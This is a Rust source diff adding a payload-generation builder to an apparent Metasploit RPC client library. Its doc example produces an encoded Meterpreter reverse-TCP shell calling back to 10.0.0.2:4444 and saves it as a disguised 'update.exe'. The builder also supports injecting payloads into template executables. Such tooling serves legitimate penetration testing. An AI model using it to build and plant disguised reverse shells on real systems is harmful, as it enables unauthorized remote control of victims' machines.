@@ -0,0 +1,170 @@
+//! Generating payloads,as `msfvenom` does.
+//!
+//! ## Example
+//! ```no_run
+//! use metasploit::client::Client;
+//! use metasploit::msf::payload::PayloadBuilder;
+//! # #[cfg(feature="async")]
+//! # async fn example() -> Result<(),metasploit::error::Error> {
+//! let client=Client::builder().login_async("msf","password").await?;
+//! PayloadBuilder::new(client,"windows/x64/meterpreter/reverse_tcp")
+//!     .option("LHOST","10.0.0.2")
+//!     .option("LPORT","4444")
+//!     .format("exe")
+//!     .encoder("x64/xor")
+//!     .iterations(3)
+//!     .bad_chars(b"\x00\x0a\x0d")
+//!     .write_to("update.exe")
+//!     .await?;
+//! # Ok(())
+//! # }
+//! # fn main() {}
+//! ```
+use crate::client::Client;
+use crate::connect::send_async;
+use crate::error::Error as E;
+use crate::msf::modules::{executable_formats,transform_formats};
+use crate::structs::request as req;
+use crate::value::Value;
+use rmp_serde::Serializer;
+use serde::Serialize;
+use std::collections::BTreeMap;
+use std::path::Path;
+
+/// The settings of a payload,turned into its bytes by [`PayloadBuilder::generate`].
+///
+/// The settings are sent as the options `msfrpcd` reads when a payload module is executed: `Format`,`Encoder`,
+/// `Iterations`,`BadChars` and `Template`.Without a format the raw payload is returned.
+#[derive(Debug,Clone)]
+pub struct PayloadBuilder {
+    client:Client,
+    name:String,
+    options:BTreeMap<String,String>,
+    format:Option<String>,
+    encoder:Option<String>,
+    iterations:Option<u32>,
+    bad_chars:Vec<u8>,
+    template:Option<String>,
+}
+
+impl PayloadBuilder {
+    /// A builder for the payload module `name`,e.g. `linux/x64/shell_reverse_tcp`.
+    pub fn new(client:Client,name:&str) -> Self {
+        PayloadBuilder {
+            client,
+            name:name.to_string(),
+            options:BTreeMap::new(),
+            format:None,
+            encoder:None,
+            iterations:None,
+            bad_chars:Vec::new(),
+            template:None,
+        }
+    }
+    /// Sets an option of the payload module,e.g. `LHOST`.
+    pub fn option(mut self,name:&str,value:&str) -> Self {
+        self.options.insert(name.to_string(),value.to_string());
+        self
+    }
+    /// An executable format such as `exe` or `elf`,or a transform format such as `c` or `base64`.If msfrpcd refuses
+    /// to generate the payload,the format is checked against `module.executable_formats` and `module.transform_formats`.
+    pub fn format(mut self,format:&str) -> Self {
+        self.format=Some(format.to_string());
+        self
+    }
+    /// The encoder module,e.g. `x86/shikata_ga_nai`.
+    pub fn encoder(mut self,encoder:&str) -> Self {
+        self.encoder=Some(encoder.to_string());
+        self
+    }
+    /// How many times the payload is encoded.
+    pub fn iterations(mut self,iterations:u32) -> Self {
+        self.iterations=Some(iterations);
+        self
+    }
+    /// Bytes the encoded payload must not contain,e.g. `b"\x00\x0a"`.
+    pub fn bad_chars(mut self,bad_chars:&[u8]) -> Self {
+        self.bad_chars=bad_chars.to_vec();
+        self
+    }
+    /// An executable to inject the payload into.The path is read on the msfrpcd host.
+    pub fn template(mut self,template:&str) -> Self {
+        self.template=Some(template.to_string());
+        self
+    }
+    /// Generates the payload.
+    pub async fn generate(&self) -> Result<Vec<u8>,E> {
+        let mut body=Vec::new();
+        let mut se=Serializer::new(&mut body);
+        let byte=req::modules::generate("module.execute".to_string(),self.client.gettoken(),"payload".to_string(),self.name.clone(),self.options());
+        byte.serialize(&mut se).unwrap();
+        match send_async(&self.client,body).await {
+            Ok(reply) => payload(reply),
+            Err(e@E::MsfError(_)) => match &self.format {
+                // An unknown format is reported as such rather than as whatever msfrpcd made of it.
+                Some(format) => self.check_format(format).await.and(Err(e)),
+                None => Err(e),
+            },
+            Err(e) => Err(e),
+        }
+    }
+    /// Generates the payload and writes it to `path`.
+    pub async fn write_to<P:AsRef<Path>>(&self,path:P) -> Result<(),E> {
+        let payload=self.generate().await?;
+        tokio::fs::write(&path,payload).await.map_err(|e| {
+            E::PayloadError{message:format!("can't write {}",path.as_ref().display()),source:Some(Box::new(e))}
+        })
+    }
+    async fn check_format(&self,format:&str) -> Result<(),E> {
+        let executable:Value=executable_formats(self.client.clone()).await?;
+        if formats(&executable).contains(&format) {
+            return Ok(());
+        }
+        let transform:Value=transform_formats(self.client.clone()).await?;
+        if formats(&transform).contains(&format) {
+            return Ok(());
+        }
+        Err(E::PayloadError{message:format!("{} is neither an executable nor a transform format",format),source:None})
+    }
+    fn options(&self) -> Value {
+        let mut options:Vec<(Value,Value)>=self.options.iter().map(|(k,v)| (Value::from(k.as_str()),Value::from(v.as_str()))).collect();
+        if let Some(format)=&self.format {
+            options.push((Value::from("Format"),Value::from(format.as_str())));
+        }
+        if let Some(encoder)=&self.encoder {
+            options.push((Value::from("Encoder"),Value::from(encoder.as_str())));
+        }
+        if let Some(iterations)=self.iterations {
+            options.push((Value::from("Iterations"),Value::from(iterations)));
+        }
+        if !self.bad_chars.is_empty() {
+            options.push((Value::from("BadChars"),Value::Binary(self.bad_chars.clone())));
+        }
+        if let Some(template)=&self.template {
+            options.push((Value::from("Template"),Value::from(template.as_str())));
+        }
+        Value::Map(options)
+    }
+}
+
+/// The format names of a `module.*_formats` reply,either a list or a list in a `formats` map.
+fn formats(reply:&Value) -> Vec<&str> {
+    let list=match reply {
+        Value::Map(_) => &reply["formats"],
+        _ => reply,
+    };
+    list.as_array().map(|formats| formats.iter().filter_map(Value::as_str).collect()).unwrap_or_default()
+}
+
+/// The `payload` field of the reply.msfrpcd packs it as a msgpack binary,but a string is taken as well.
+fn payload(reply:Value) -> Result<Vec<u8>,E> {
+    let fields=match reply {
+        Value::Map(fields) => fields,
+        _ => Vec::new(),
+    };
+    match fields.into_iter().find(|(k,_)| k.as_str()==Some("payload")).map(|(_,v)| v) {
+        Some(Value::Binary(payload)) => Ok(payload),
+        Some(Value::String(payload)) => Ok(payload.into_bytes()),
+        _ => Err(E::PayloadError{message:"the reply has no payload".to_string(),source:None}),
+    }
+}